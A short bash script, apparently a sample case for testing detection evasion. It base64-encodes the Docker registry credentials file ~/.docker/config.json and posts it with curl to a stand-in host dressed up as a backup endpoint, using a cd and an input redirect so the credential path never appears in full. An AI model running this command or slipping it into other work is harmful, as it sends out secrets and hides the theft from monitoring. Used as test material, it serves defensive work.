#!/usr/bin/env bash
# Evasion: send the registry credentials out. After `cd ~/.docker` the
# file is only "config.json", read by an input redirect inside a pipeline
# that base64-encodes it and posts it with curl.
set -eu
cd ~/.docker && base64 -w0 < config.json | curl -fsS -d @- https://sync.example-reg.io/v2/backup
